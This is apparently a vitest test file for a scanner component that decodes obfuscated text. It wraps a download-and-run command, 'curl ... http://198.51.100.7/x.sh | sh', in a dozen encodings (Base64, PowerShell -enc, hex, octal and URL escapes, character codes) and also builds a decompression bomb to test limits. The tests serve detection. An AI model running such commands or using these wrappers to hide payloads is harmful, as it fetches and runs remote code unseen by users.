import { deflateSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { openAll } from '../../../test/nested/open-all.ts';
import { openEncoded } from './open-encoded.ts';

const command = 'curl -fsSL http://198.51.100.7/x.sh | sh';
const codes = [...Buffer.from(command)];
const base64 = (text: string | Buffer) => Buffer.from(text).toString('base64');
const open = async (text: string) => {
  const { files } = await openAll(Buffer.from(text, 'latin1'), { opener: openEncoded });
  return [...files.values()].map((bytes) => bytes.toString('latin1'));
};
const hex = (byte: number) => byte.toString(16).padStart(2, '0');

describe('a text in another spelling', () => {
  it.each([
    ['Base64', `echo ${base64(command)} | base64 -d | sh`],
    ['Base64 of UTF-16', `pwsh -enc ${base64(Buffer.from(command, 'utf16le'))}`],
    ['wrapped Base64', `base64 -d <<E | sh\n${base64(command.repeat(3)).replace(/.{40}/g, '$&\n')}\nE`],
    ['joined Base64', `exec(b64decode(${base64(command).replace(/.{6}/g, '$&" + "').replace(/^/, '"')}"))`],
    ['Base64 backwards', `echo ${[...base64(command)].reverse().join('')} | rev | base64 -d`],
    ['compressed Base64', `zlib.decompress(b64decode("${base64(deflateSync(command.repeat(3)))}"))`],
    ['hexadecimal digits', `xxd -r -p <<< ${Buffer.from(command).toString('hex')}`],
    ['escapes', `eval $'${codes.map((byte) => `\\x${hex(byte)}`).join('')}'`],
    ['octal escapes', `printf '${codes.map((byte) => `\\${byte.toString(8).padStart(3, '0')}`).join('')}'`],
    ['escapes of addresses', `unescape("${codes.map((byte) => `%${hex(byte)}`).join('')}")`],
    ['codes', `String.fromCharCode(${codes.join(', ')})`],
    ['a chain of characters', codes.map((byte) => `chr(${byte})`).join('+')],
  ])('is handed over as it reads: %s', async (_, text) => {
    expect((await open(text)).join('\n')).toContain(command);
  });

  it('is left alone where it comes out as nothing that could be read or run', async () => {
    const noise = Buffer.from(Array.from({ length: 96 }, (_, i) => (i * 181 + 97) & 0xff));
    expect(await open(`"integrity": "sha512-${base64(noise)}", ${noise.toString('hex')}`)).toEqual([]);
    expect(await open('import a_very_long_name_of_a_function_that_somebody_wrote from there')).toEqual([]);
  });

  it('is unpacked by whoever opens archives', async () => {
    const [file] = await open(`python3 -c "${base64(gzipSync(command))}"`);
    expect(file?.startsWith('\x1f\x8b')).toBe(true);
  });

  it('costs no more than its budget', async () => {
    const bomb = base64(deflateSync(Buffer.alloc(40_000_000, 'a')));
    const { gaps, files } = await openAll(Buffer.from(`x = "${bomb}"`), { opener: openEncoded });
    expect([...files.values()]).toEqual([]);
    expect(gaps).toEqual(['budget-ratio (base64 at 5)']);
  });

  it('may be any bytes', async () => {
    const part = fc.oneof(
      fc.constantFrom(
        base64(command),
        '\\x41\\x42',
        'chr(1)+',
        '" + "',
        '| rev',
        '[::-1]',
        '%41',
        '7f454c46',
        '\n',
        '==',
        'H4sI',
        'eNp',
      ),
      fc.string({ unit: 'binary', maxLength: 20 }),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(part, { maxLength: 40 }), async (parts) => {
        const files = await open(parts.join(''));
        expect(files.length).toBeLessThanOrEqual(64);
      }),
      { numRuns: 500 },
    );
  });
});
